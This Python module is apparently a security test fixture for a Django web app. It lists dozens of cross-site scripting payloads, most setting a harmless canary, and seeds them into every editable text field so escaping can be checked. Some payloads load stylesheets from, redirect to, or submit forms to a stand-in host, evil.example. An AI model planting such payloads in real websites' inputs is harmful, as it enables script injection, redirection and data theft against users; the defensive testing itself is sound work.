"""Markup that runs something where it is not shown as text, and a command that writes it into every text of every kind of row."""

from itertools import cycle

PAYLOADS = [
    "<script>window.__xss=1</script>", "<SCRIPT>window.__xss=1</SCRIPT>", "<scr<script>ipt>window.__xss=1</scr</script>ipt>",
    "</script><script>window.__xss=1</script>", "</title><script>window.__xss=1</script>", "</textarea><script>window.__xss=1</script>",
    "--><script>window.__xss=1</script>", "]]><script>window.__xss=1</script>", "'><script>window.__xss=1</script>",
    '"><script>window.__xss=1</script>', "<img src=x onerror=window.__xss=1>", "<img/src=x/onerror=window.__xss=1>",
    "<img src=x onerror='window.__xss=1'>", '<img src="x" onerror="window.__xss=1">', "<img src=`x`onerror=window.__xss=1>",
    "<svg onload=window.__xss=1>", "<svg/onload=window.__xss=1>", "<svg><script>window.__xss=1</script></svg>",
    "<svg><animate onbegin=window.__xss=1 attributeName=x dur=1s>", "<svg><a xlink:href=javascript:window.__xss=1>x</a></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.__xss=1>", "<body onload=window.__xss=1>",
    "<iframe src=javascript:window.parent.__xss=1>", "<iframe srcdoc='<script>parent.__xss=1</script>'>", "<object data=javascript:window.__xss=1>",
    "<embed src=javascript:window.__xss=1>", "<details open ontoggle=window.__xss=1>", "<input autofocus onfocus=window.__xss=1>",
    "<select autofocus onfocus=window.__xss=1>", "<video><source onerror=window.__xss=1>", "<audio src=x onerror=window.__xss=1>",
    "<marquee onstart=window.__xss=1>", "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import'//evil.example/x.css';</style>",
    "<style>body{background:url(//evil.example/x)}</style>", "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<base href=//evil.example/>", "<form action=//evil.example/><button>x", "<a href=javascript:window.__xss=1>x</a>",
    "[x](javascript:window.__xss=1)", "[x](data:text/html;base64,PHNjcmlwdD4=)", "![x](x\"onerror=\"window.__xss=1)",
    "[x](  javas\tcript:window.__xss=1)", "<p style=background:url(javascript:window.__xss=1)>", "<x onclick=window.__xss=1 tabindex=0 autofocus>",
    "<noscript><p title='</noscript><img src=x onerror=window.__xss=1>'>", "\" onmouseover=window.__xss=1 autofocus onfocus=window.__xss=1 x=\"",
    "' autofocus onfocus='window.__xss=1", "javascript:window.__xss=1", "{{constructor.constructor('window.__xss=1')()}}", "${window.__xss=1}",
    "<template><script>window.__xss=1</script></template>", "&lt;script&gt;window.__xss=1&lt;/script&gt;", "\u003cscript\u003ewindow.__xss=1\u003c/script\u003e",
    "<b>bold</b><i onmouseenter=window.__xss=1>", "<a hx-get='//evil.example/' hx-trigger=load>x</a>", "<div hx-on:htmx:load='window.__xss=1'>",
]  # fmt: skip


def write_into_everything():
    """One row of every kind with markup in each of its texts, and a need for every payload. Run inside the server's database."""
    from django.db import models, transaction

    from alliance import registry
    from tests.architecture.test_query_counts import maker_of
    from tests.factories.initiatives import NeedFactory

    turn = cycle(PAYLOADS)
    for payload in PAYLOADS:
        NeedFactory(title=payload[:200], problem=payload, state="accepted")
    for noun in registry.nouns:
        row = noun.model._default_manager.first() or maker_of(noun.model)()
        acts = [act for act in (noun.create, *noun.acts) if act is not None and act.form]
        written = {name for act in acts for name in act.form.base_fields}
        texts = [
            field
            for field in noun.model._meta.concrete_fields
            if isinstance(field, models.CharField | models.TextField)
            and not field.choices
            and not field.unique
            and not field.primary_key
            and (field.max_length or 999) >= 60
            and field.name in written
        ]
        for field in texts:
            with transaction.atomic():
                value = next(turn)[: field.max_length]
                try:
                    with transaction.atomic():
                        noun.model._default_manager.filter(pk=row.pk).update(**{field.name: value})
                except Exception as fault:  # a row that never changes keeps its words
                    print("kept", noun.path, field.name, type(fault).__name__)  # noqa: T201
